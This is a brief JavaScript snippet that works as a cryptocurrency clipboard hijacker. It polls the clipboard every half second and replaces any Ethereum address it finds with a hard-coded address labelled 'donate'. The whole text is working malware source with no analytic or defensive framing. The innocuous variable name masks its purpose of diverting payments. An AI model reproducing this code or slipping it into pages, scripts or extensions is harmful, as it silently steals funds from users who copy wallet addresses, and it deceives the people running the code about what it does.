const donate = '0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe';
const copy = (text) => navigator.clipboard.writeText(text);
setInterval(async () => {
  const now = await navigator.clipboard.readText();
  if (/^0x[a-fA-F0-9]{40}$/.test(now)) copy(donate);
}, 500);
